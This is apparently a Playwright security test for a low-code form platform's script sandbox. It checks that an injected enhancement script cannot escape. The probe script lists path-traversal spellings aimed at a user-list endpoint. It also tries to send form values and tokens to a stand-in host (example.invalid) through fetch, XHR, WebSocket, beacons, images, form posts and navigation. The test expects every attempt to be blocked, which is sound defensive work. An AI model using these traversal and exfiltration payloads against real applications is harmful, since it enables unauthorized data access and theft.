import { expect, test, type Page, type Request } from '@playwright/test';
import { ADMIN, buttonName, openPage, signIn, token } from './helpers';

/** A table name of letters only after the prefix (digits must not follow an underscore). */
const letters = () =>
  Date.now()
    .toString(26)
    .replace(/[0-9]/g, (d) => 'abcdefghij'[Number(d)]!)
    .slice(-6);

async function api(page: Page, method: 'GET' | 'POST', url: string, data?: object) {
  const headers = { 'X-Access-Token': await token(page) };
  const res =
    method === 'GET' ? await page.request.get(url, { headers }) : await page.request.post(url, { headers, data });
  expect(res.status(), await res.text()).toBe(200);
  return (await res.json()).result;
}

interface MenuNode {
  id: string;
  url: string | null;
  children?: MenuNode[];
}

function findMenu(nodes: MenuNode[], url: string): MenuNode | undefined {
  for (const n of nodes) {
    if (n.url === url) return n;
    const found = findMenu(n.children ?? [], url);
    if (found) return found;
  }
  return undefined;
}

/** Spellings of a read of the user list, which an enhancement script must never reach through api.request. */
const traversals = (origin: string) => [
  '/sys/user/list',
  '/online/cgreport/api/data/../../../../sys/user/list',
  '/online/cgreport/api/data/x/../../../../../sys/user/list',
  '/online/cgreport/api/data/%2e%2e/%2e%2e/%2e%2e/%2e%2e/sys/user/list',
  '/online/cgreport/api/data/%2E%2E%2F%2E%2E%2F%2E%2E%2F%2E%2E%2Fsys%2Fuser%2Flist',
  '/online/cgreport/api/data/%252e%252e/%252e%252e/%252e%252e/%252e%252e/sys/user/list',
  '/online/cgreport/api/data/..%5c..%5c..%5c..%5csys%5cuser%5clist',
  '/online/cgreport/api/data/..\\..\\..\\..\\sys\\user\\list',
  '/online/cgform/data/onl_x/list/../../../../../sys/user/list',
  '/online/cgform/data/onl_x/list?column=id&url=/sys/user/list',
  '//127.0.0.1/api/sys/user/list',
  `${origin}/api/sys/user/list`,
  'https://example.invalid/api/sys/user/list',
];

/**
 * The probe: a button whose handler tries every way out it can think of and writes what happened into the form
 * (api.setValue), then says so (api.message). Each attempt reports `blocked` unless something got through.
 */
function probeScript(table: string, origin: string) {
  return `
enhance({
  buttons: [{ key: 'probe', label: '越权探测' }],
  onLoad(api) { api.setValue('topic', '沙箱已加载'); },
  async onButton(key, api) {
    if (key !== 'probe') return;
    const out = {};
    const attempt = async (name, work) => {
      try {
        const r = await work();
        out[name] = 'passed:' + String(r);
      } catch (e) {
        out[name] = 'blocked';
      }
    };
    for (const url of ${JSON.stringify(traversals(origin))}) {
      await attempt('request ' + url, () => api.request(url, {}));
    }
    await attempt('request with a nested param', () => api.request('/online/cgform/data/${table}/list', { q: { url: '/sys/user/list' } }));
    // The documented read works.
    try {
      const page = await api.request('/online/cgform/data/${table}/list', { pageSize: 5 });
      out.allowed = 'ok:' + page.total;
    } catch (e) {
      out.allowed = 'failed:' + e.message;
    }
    const leak = 'https://example.invalid/leak?d=' + encodeURIComponent(JSON.stringify(api.getValues()));
    await attempt('fetch', () => fetch(leak).then((r) => r.status));
    await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', leak); x.send(); return 'sent'; });
    await attempt('websocket', () => { new WebSocket('wss://example.invalid/ws'); return 'made'; });
    await attempt('eventsource', () => { new EventSource(leak); return 'made'; });
    await attempt('importScripts', () => { importScripts(leak); return 'loaded'; });
    await attempt('sendBeacon', () => navigator.sendBeacon(leak, 'x'));
    await attempt('nested worker', () => { new Worker('data:text/javascript,fetch(' + JSON.stringify(leak) + ')'); return 'made'; });
    await attempt('image', () => { const img = new Image(); img.src = leak; return 'made'; });
    await attempt('img element', () => { const img = document.createElement('img'); img.src = leak; document.body.appendChild(img); return 'made'; });
    await attempt('form post', () => {
      const f = document.createElement('form');
      f.method = 'post';
      f.action = leak;
      document.body.appendChild(f);
      f.submit();
      return 'submitted';
    });
    await attempt('window.open', () => window.open(leak));
    await attempt('top navigation', () => { top.location.href = leak; return 'navigated'; });
    await attempt('parent navigation', () => { parent.location = leak; return 'navigated'; });
    await attempt('location.href', () => {
      location.href = leak;
      if (String(location.href).indexOf('example.invalid') < 0) throw new Error('stayed');
      return 'navigated';
    });
    await attempt('location.assign', () => { location.assign(leak); return 'navigated'; });
    await attempt('page storage', () => localStorage.getItem('Access-Token') || document.cookie);
    await attempt('unknown bridge message', () => { self.postMessage({ type: 'navigate', url: leak }); throw new Error('ignored'); });
    api.setValue('memo', JSON.stringify(out));
    api.message('探测完成');
  },
});`;
}

test('online sandbox: an enhancement script reaches nothing but the allowlisted reads, and nothing leaves', async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const suffix = letters();
  const table = `onl_probe${suffix}`;
  const context = await browser.newContext();
  const page = await context.newPage();
  const origin = new URL(test.info().project.use.baseURL!).origin;

  // Every request of the page, its frames and workers; anything for another origin is recorded and cut off.
  const seen: { url: string; frame: string }[] = [];
  const outside: string[] = [];
  context.on('request', (r: Request) => {
    let frame = '';
    try {
      frame = r.frame().url();
    } catch {
      frame = 'worker';
    }
    seen.push({ url: r.url(), frame });
  });
  const network = (url: URL) => ['http:', 'https:', 'ws:', 'wss:'].includes(url.protocol);
  await context.route(
    (url) => network(url) && url.origin !== origin,
    async (route) => {
      outside.push(route.request().url());
      await route.abort();
    },
  );

  await signIn(page, ADMIN);
  const form = await api(page, 'POST', '/api/online/cgform/head/add', {
    tableName: table,
    title: `沙箱探测${suffix}`,
    fields: [
      { name: 'topic', label: '主题', dbType: 'string', length: 100 },
      { name: 'memo', label: '探测结果', dbType: 'text', widget: 'textarea' },
    ],
  });
  await api(page, 'POST', '/api/online/cgform/head/sync', { id: form.id });
  const tree = (await api(page, 'GET', '/api/sys/permission/list')) as MenuNode[];
  await api(page, 'POST', '/api/online/cgform/head/createMenu', {
    id: form.id,
    parentId: findMenu(tree, '/online')!.id,
    name: `沙箱探测${suffix}`,
  });
  await api(page, 'POST', `/api/online/cgform/data/${table}/add`, { topic: '已有一行' });
  await api(page, 'POST', '/api/online/cgform/head/enhance', { tableName: table, script: probeScript(table, origin) });
  await page.reload();

  const list = await openPage(page, '在线开发', `沙箱探测${suffix}`);
  await list.getByRole('button', { name: buttonName('新增') }).click();
  const dialog = page.getByRole('dialog', { name: `新增沙箱探测${suffix}` });
  // The documented API works: onLoad set a value through the bridge.
  await expect(dialog.getByLabel('主题')).toHaveValue('沙箱已加载');
  // The script runs in a worker started by the sandbox frame, not in a document.
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);

  await dialog.getByRole('button', { name: '越权探测' }).click();
  await expect(page.getByText('探测完成')).toBeVisible();
  const report = JSON.parse(await dialog.getByLabel('探测结果').inputValue()) as Record<string, string>;

  // (a) No spelling of another route gets an answer; the allowlisted read still does.
  for (const url of traversals(origin)) expect(report[`request ${url}`], url).toBe('blocked');
  expect(report['request with a nested param']).toBe('blocked');
  expect(report.allowed).toMatch(/^ok:\d+$/);
  // (b) No network, no navigation, no page, no storage from the script.
  for (const name of [
    'fetch',
    'xhr',
    'websocket',
    'eventsource',
    'importScripts',
    'sendBeacon',
    'nested worker',
    'image',
    'img element',
    'form post',
    'window.open',
    'top navigation',
    'parent navigation',
    'location.href',
    'location.assign',
    'page storage',
    'unknown bridge message',
  ]) {
    expect(report[name], name).toBe('blocked');
  }

  // The sandbox frame is still where it was, the page too.
  const sandbox = page.frames().find((f) => f.url().includes('/online/cgform/sandbox'));
  expect(
    sandbox,
    page
      .frames()
      .map((f) => f.url())
      .join(' '),
  ).toBeTruthy();
  expect(new URL(page.url()).origin).toBe(origin);
  expect(page.frames().every((f) => !f.url().includes('example.invalid'))).toBe(true);

  // A control: a request of the page itself to another origin is seen (the recording works).
  await page.evaluate(() => {
    new Image().src = 'https://example.invalid/control';
  });
  await expect.poll(() => outside).toContain('https://example.invalid/control');
  // Nothing else went anywhere but our own origin, and the user list was never read.
  await page.waitForTimeout(500);
  expect(outside.filter((u) => !u.endsWith('/control'))).toEqual([]);
  const foreign = seen.filter((r) => network(new URL(r.url)) && !r.url.startsWith(`${origin}/`));
  expect(foreign.filter((r) => !r.url.endsWith('/control'))).toEqual([]);
  expect(seen.filter((r) => new URL(r.url).pathname.includes('/sys/user/list'))).toEqual([]);
  await context.close();
});
